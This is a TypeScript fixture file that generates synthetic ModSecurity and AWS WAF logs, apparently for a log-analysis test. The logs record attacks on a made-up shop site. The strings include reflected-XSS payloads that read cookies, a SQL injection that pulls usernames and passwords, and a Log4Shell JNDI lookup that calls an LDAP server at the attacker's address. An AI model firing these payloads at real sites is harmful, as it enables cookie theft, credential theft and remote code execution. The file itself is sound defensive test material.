// Round 9 WAF: ModSecurity 2.9 (CRS 3.3, anomaly scoring) in Apache's error log alone, whose [uri]
// carries no query string, so the payload is only in the rule's [data]; and AWS WAF full logs,
// which hold no HTTP status, with requests BLOCKed and others let through with a COUNT match.
import { awsRecord } from '../planted7waf/waf';

const T0 = Date.UTC(2026, 4, 16, 14, 0, 0);
const DAYS = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const pad = (n: number, w = 2): string => String(n).padStart(w, '0');
/** Apache 2.4's `Sat May 16 14:00:01.123456 2026` */
const apacheTime = (ms: number): string => {
  const d = new Date(ms);
  return `${DAYS[d.getUTCDay()]} ${MONTHS[d.getUTCMonth()]} ${pad(d.getUTCDate())} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}.${pad(d.getUTCMilliseconds(), 3)}412 ${d.getUTCFullYear()}`;
};
const CRS = '/usr/share/modsecurity-crs/rules';

export const XSS_IP = '194.26.29.113';
export const XSS_VALUE = '<script>alert(document.cookie)</script>';

/** 30 reflected-XSS tries on /search?q=…, each a 941100 warning then its transaction's 949110 block; the balancer's numeric-Host checks set off 920350. */
export function modsecErrorLog(): string[] {
  const out: { ms: number; line: string }[] = [];
  const line = (ms: number, ip: string, port: number, text: string, file: string, ln: number, id: string, msg: string, data: string, sev: string, tags: string[], host: string, uri: string, uid: string): void => {
    const dataField = data ? ` [data "${data.replace(/"/g, '\\"')}"]` : '';
    out.push({ ms, line: `[${apacheTime(ms)}] [security2:error] [pid 3121:tid 140071262758656] [client ${ip}:${port}] [client ${ip}] ModSecurity: ${text} [file "${CRS}/${file}"] [line "${ln}"] [id "${id}"] [msg "${msg}"]${dataField} [severity "${sev}"] [ver "OWASP_CRS/3.3.5"] ${tags.map((t) => `[tag "${t}"]`).join(' ')} [hostname "shop.example.com"] [uri "${uri}"] [unique_id "${uid}"]` });
  };
  for (let i = 0; i < 30; i++) {
    const ms = T0 + 600_000 + i * 6_000;
    const uid = `ZkbX${(70000 + i).toString(36)}gPAAEAAAwBKs4AAAA${String.fromCharCode(65 + (i % 26))}`;
    const value = i % 2 ? XSS_VALUE : `"><svg/onload=alert(${i})>`;
    line(ms, XSS_IP, 51000 + i, 'Warning. detected XSS using libinjection.', 'REQUEST-941-APPLICATION-ATTACK-XSS.conf', 55, '941100', 'XSS Attack Detected via libinjection', `Matched Data: XSS data found within ARGS:q: ${value}`, 'CRITICAL', ['application-multi', 'language-multi', 'platform-multi', 'attack-xss', 'paranoia-level/1', 'OWASP_CRS', 'capec/1000/152/242'], 'shop.example.com', '/search', uid);
    line(ms + 1, XSS_IP, 51000 + i, "Access denied with code 403 (phase 2). Operator GE matched 5 at TX:anomaly_score.", 'REQUEST-949-BLOCKING-EVALUATION.conf', 81, '949110', 'Inbound Anomaly Score Exceeded (Total Score: 5)', '', 'CRITICAL', ['application-multi', 'language-multi', 'platform-multi', 'attack-generic'], 'shop.example.com', '/search', uid);
  }
  for (let i = 0; i < 60; i++) {
    const ms = T0 + i * 30_000;
    const ip = `10.0.2.${11 + (i % 2)}`;
    line(ms, ip, 40000 + i, 'Warning. Pattern match "^[\\\\d.:]+$" at REQUEST_HEADERS:Host.', 'REQUEST-920-PROTOCOL-ENFORCEMENT.conf', 736, '920350', 'Host header is a numeric IP address', '10.0.2.5', 'WARNING', ['application-multi', 'language-multi', 'platform-multi', 'attack-protocol', 'paranoia-level/1', 'OWASP_CRS'], '10.0.2.5', '/health', `Zkb${(20000 + i).toString(36)}QAAAAAAAAAAAAAAAAAA`);
  }
  return out.sort((a, b) => a.ms - b.ms).map((o) => o.line);
}

export const AWS_IP = '146.70.117.36';

/** AWS WAF: 12 SQL injections BLOCKed by the managed group, 3 Log4Shell lookups in the query the KnownBadInputs group only COUNTs; shoppers allowed. */
export function awsWafLog(): string[] {
  const out: string[] = [];
  let n = 0;
  for (let i = 0; i < 12; i++) out.push(awsRecord({ ms: T0 + 3_600_000 + i * 5_000, ip: AWS_IP, country: 'NL', method: 'GET', uri: '/catalog', args: `id=${i}%27%20union%20select%20username,password%20from%20users--`, ua: 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0', action: 'BLOCK', group: 'AWSManagedRulesSQLiRuleSet', rule: 'SQLi_QUERYARGUMENTS', kind: 'SQL_INJECTION' }, n++));
  for (let i = 0; i < 3; i++) out.push(awsRecord({ ms: T0 + 3_700_000 + i * 5_000, ip: AWS_IP, country: 'NL', method: 'GET', uri: '/catalog', args: `q=%24%7Bjndi%3Aldap%3A%2F%2F146.70.117.36%3A1389%2Fa${i}%7D`, ua: 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0', action: 'ALLOW', counted: ['AWSManagedRulesKnownBadInputsRuleSet', 'Log4JRCE_QUERYSTRING'] }, n++));
  for (let i = 0; i < 200; i++) out.push(awsRecord({ ms: T0 + i * 30_000, ip: `81.2.${69 + (i % 5)}.${(i * 29) % 250}`, country: 'GB', method: 'GET', uri: ['/', '/catalog', '/cart'][i % 3]!, args: i % 3 === 1 ? `id=${i % 40}` : '', ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36', action: 'ALLOW' }, n++));
  return out.sort((a, b) => (JSON.parse(a) as { timestamp: number }).timestamp - (JSON.parse(b) as { timestamp: number }).timestamp);
}
